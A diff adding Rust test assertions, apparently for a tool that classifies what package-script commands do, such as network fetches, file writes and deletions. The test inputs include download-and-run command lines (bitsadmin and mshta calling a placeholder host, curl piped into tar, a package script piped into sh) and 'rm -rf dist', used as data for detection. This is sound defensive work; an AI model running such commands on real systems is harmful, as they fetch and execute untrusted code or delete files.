@@ -38,6 +38,30 @@ fn commands_do_things() {
             "fs.read <package>/x.sh"
         ]
     );
+    assert_eq!(
+        acts("bitsadmin /transfer j https://a.invalid/x c:\\x.exe"),
+        ["network.http https://a.invalid/x", "fs.write c:/x.exe"]
+    );
+    assert_eq!(
+        acts("curl -s https://a.invalid/x | tar xz -C /tmp/x"),
+        ["network.http https://a.invalid/x", "archive.unpack /tmp/x"]
+    );
+    assert_eq!(acts("shx rm -rf dist"), ["fs.delete <package>/dist"]);
+    assert_eq!(
+        acts("mshta https://a.invalid/x"),
+        ["network.http https://a.invalid/x"]
+    );
+    // A file of the package is what it says, whatever way it goes to a shell.
+    for line in [
+        "cat get.sh | sh",
+        "sh < get.sh",
+        "cp get.sh /tmp/x; sh /tmp/x",
+        "tee /tmp/x < get.sh; sh /tmp/x",
+    ] {
+        let found = acts(line);
+        let asks = |act: &String| act == "network.http https://a.invalid/get";
+        assert!(found.iter().any(asks), "{line}: {found:?}");
+    }
     assert_eq!(acts("npm i left-pad"), ["module.install left-pad"]);
     assert_eq!(acts("npm publish"), ["module.publish ."]);
     assert_eq!(acts("npx thing"), ["module.install thing"]);
